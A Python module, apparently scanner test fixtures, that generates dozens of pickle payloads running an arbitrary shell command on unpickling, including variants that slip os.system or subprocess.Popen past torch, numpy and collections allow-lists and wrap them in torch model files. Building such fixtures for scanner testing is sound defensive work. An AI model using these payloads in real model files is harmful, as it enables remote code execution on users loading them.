# SPDX-License-Identifier: Apache-2.0
"""Pickles that call os.system, one way each, and files to put them into."""

import pickle
import struct
import zipfile


def text(string):
    data = string.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(string):
    data = string.encode()
    return b"\x8c" + bytes([len(data)]) + data


def proto(number, body):
    return b"\x80" + bytes([number]) + body + b"."


def calls_by_opcode(command):
    """Name to pickle; each one runs `command` when an unpickler believes it."""
    line, arg = command.encode(), text(command)
    system = b"cposix\nsystem\n"
    return {
        "global_reduce": proto(2, system + b"(" + arg + b"tR"),
        "global_os": proto(2, b"cos\nsystem\n" + arg + b"\x85R"),
        "protocol_0": b"cposix\nsystem\n(S'" + line + b"'\ntR.",
        "inst": b"(S'" + line + b"'\niposix\nsystem\n.",
        "obj": b"(" + system + b"S'" + line + b"'\no.",
        "stack_global": proto(
            4, short("posix") + short("system") + b"\x93" + short(command) + b"\x85R"
        ),
        "framed": proto(
            4,
            b"\x95"
            + struct.pack("<Q", 30 + len(command))
            + short("posix")
            + short("system")
            + b"\x93"
            + short(command)
            + b"\x85R",
        ),
        "memoised": proto(2, system + b"q\x00" + arg + b"\x85q\x010h\x00h\x01R"),
        "duplicated": proto(2, system + arg + b"\x85R2" + b"\x86"),
    }


def calls_by_function(command):
    """Name to pickle; these do it by way of another function."""
    arg = text(command)
    system = b"cposix\nsystem\n"
    getattr_ = b"c__builtin__\ngetattr\n"
    code = text(f"__import__('os').system({command!r})")
    return {
        "eval": proto(2, b"c__builtin__\neval\n" + code + b"\x85R"),
        "exec": proto(2, b"c__builtin__\nexec\n" + code + b"\x85R"),
        "getattr": proto(
            2,
            getattr_
            + b"c__builtin__\n__import__\n"
            + text("os")
            + b"\x85R"
            + text("system")
            + b"\x86R"
            + arg
            + b"\x85R",
        ),
        "getattr_of_a_class": proto(
            2,
            getattr_
            + b"ccollections\nOrderedDict\n"
            + text("__init__")
            + b"\x86R"
            + text("x")
            + b"\x85R"
            + system
            + arg
            + b"\x85R"
            + b"\x86",
        ),
        "dotted_name": proto(
            4, short("torch") + short("os.system") + b"\x93" + short(command) + b"\x85R"
        ),
        "dotted_allowed_module": proto(
            4,
            short("collections")
            + short("_sys.modules.get")
            + b"\x93"
            + short("os")
            + b"\x85R"
            + short("posix")
            + short("system")
            + b"\x93"
            + short(command)
            + b"\x85R\x86",
        ),
    }


def calls_amid_others(command):
    """Name to pickle; something else is called that then calls."""
    arg = text(command)
    system = b"cposix\nsystem\n"
    return {
        "partial": proto(2, b"cfunctools\npartial\n" + system + arg + b"\x86R)R"),
        "partial_state": proto(
            2,
            b"cfunctools\npartial\n"
            + system
            + b"\x85R("
            + system
            + b"("
            + arg
            + b"t}}tb)R",
        ),
        "map": proto(
            2,
            b"c__builtin__\nlist\nc__builtin__\nmap\n"
            + system
            + b"]"
            + arg
            + b"a\x86R\x85R",
        ),
        "methodcaller": proto(
            2,
            b"coperator\nmethodcaller\n" + text("system") + arg + b"\x86R"
            b"cimportlib\nimport_module\n" + text("os") + b"\x85R\x85R",
        ),
        "newobj": proto(
            2,
            b"csubprocess\nPopen\n("
            + b"]"
            + text("sh")
            + b"a"
            + text("-c")
            + b"a"
            + arg
            + b"a"
            + b"t\x81"
            b"csubprocess\nPopen\n(](" + text("sh") + text("-c") + arg + b"etR\x86",
        ),
        "newobj_ex": proto(
            4,
            short("subprocess")
            + short("Popen")
            + b"\x93)}\x920"
            + short("posix")
            + short("system")
            + b"\x93"
            + short(command)
            + b"\x85R",
        ),
    }


def calls_with_more(command):
    """Name to pickle; the result of the call is used for something else."""
    line, arg = command.encode(), text(command)
    system = b"cposix\nsystem\n"
    quoted = repr(f"__import__('os').system({command!r})")
    code = text(f"__import__('os').system({command!r})")
    return {
        "build_on_result": proto(2, system + arg + b"\x85R}" + text("x") + b"K\x01sb"),
        "append_to_result": proto(2, system + arg + b"\x85R]a"),
        "setitem_on_result": proto(2, system + arg + b"\x85R" + text("x") + b"K\x01s"),
        "in_a_key": proto(2, b"}" + system + arg + b"\x85RK\x01s"),
        "in_a_set": proto(4, b"\x8f(" + system + arg + b"\x85R\x90"),
        "profile": proto(2, b"ccProfile\nrun\n" + code + b"\x85R"),
        "run_string": b"cposix\nsystem\n(V" + line + b"\ntR.",
        "nested_pickle": proto(
            2,
            b"c_pickle\nloads\nc_codecs\nencode\n"
            + text("cposix\nsystem\n(S'" + command + "'\ntR.")
            + text("latin1")
            + b"\x86R\x85R",
        ),
        "print_then": proto(
            2,
            b"c__builtin__\nprint\n"
            + text(quoted)
            + b"\x85R"
            + system
            + arg
            + b"\x85R\x86",
        ),
    }


#: Those that name something on the allow-list around the call.
def smuggled(command):
    arg = text(command)
    call = b"cposix\nsystem\n" + arg + b"\x85R"
    system = b"cposix\nsystem\n"
    torch_ = b"ctorch._utils\n"
    rebuild = b"ctorch._tensor\n_rebuild_from_type_v2\n"
    return {
        "defaultdict": proto(2, b"ccollections\ndefaultdict\n" + system + b"\x85R"),
        "counter_of": proto(2, b"ccollections\nCounter\n" + call + b"\x85R"),
        "deque_of": proto(2, b"ccollections\ndeque\n" + call + b"\x85R"),
        "from_type": proto(
            2, rebuild + b"(" + system + b"ctorch\nTensor\n" + arg + b"\x85}tR"
        ),
        "from_type_class": proto(
            2,
            rebuild + b"(" + torch_ + b"_rebuild_meta_tensor_no_storage\n"
            b"csubprocess\nPopen\n(ctorch\nfloat32\n))\x89t}tR",
        ),
        "wrapper_subclass": proto(
            2,
            torch_ + b"_rebuild_wrapper_subclass\n(csubprocess\nPopen\n"
            b"ctorch\nfloat32\n))K\x00Nctorch\ndevice\n" + text("cpu") + b"\x85R\x89tR",
        ),
        "numpy_subclass": proto(
            2,
            b"cnumpy.core.multiarray\n_reconstruct\n"
            + b"csubprocess\nPopen\nK\x00\x85"
            + text("b")
            + b"\x87R",
        ),
        "layout": proto(2, b"ctorch.serialization\n_get_layout\n" + call + b"\x85R"),
        "dotted_import": proto(
            2,
            torch_
            + b"_import_dotted_name\n"
            + text("os.system")
            + b"\x85R"
            + arg
            + b"\x85R",
        ),
        "torch_load": proto(
            2, b"ctorch\nload\n" + text("x.pt") + b"\x85R" + call + b"\x86"
        ),
        "hub": proto(2, b"ctorch.hub\n_get_torch_home\n)R" + call + b"\x86"),
        "storage_from_bytes": proto(
            2,
            b"ctorch.storage\n_load_from_bytes\nc_codecs\nencode\n"
            + text("cposix\nsystem\n(S'" + command + "'\ntR.")
            + text("latin1")
            + b"\x86R\x85R",
        ),
        "type_of_three": proto(
            2, b"c__builtin__\ntype\n" + text("X") + b")}" + b"\x87R" + call + b"\x86"
        ),
        "ordered_dict_state": proto(
            2, b"ccollections\nOrderedDict\n)R}" + text("__reduce__") + call + b"sb"
        ),
        "persistent_id": proto(
            2, b"(" + text("storage") + call + text("0") + text("cpu") + b"K\x01tQ"
        ),
        "persistent_text": b"Pos.system\n" + call[:0] + b".",
        "extension_code": proto(2, b"\x82\x01)R"),
    }


def calls(command):
    """All that Python's own unpickler may fire."""
    return {
        **calls_by_opcode(command),
        **calls_by_function(command),
        **calls_amid_others(command),
        **calls_with_more(command),
    }


def write_zip(path, pickled):
    """A torch file around a pickle."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("x/data.pkl", pickled)
        archive.writestr("x/byteorder", "little")
        archive.writestr("x/data/0", b"\0" * 64)
        archive.writestr("x/version", "3\n")


def write_legacy(path, pickled):
    """The same as torch wrote it before 1.6."""
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    with open(path, "wb") as file:
        for head in (0x1950A86A20F9469CFC6C, 1001, system):
            pickle.dump(head, file, protocol=2)
        file.write(pickled)
        pickle.dump([], file, protocol=2)
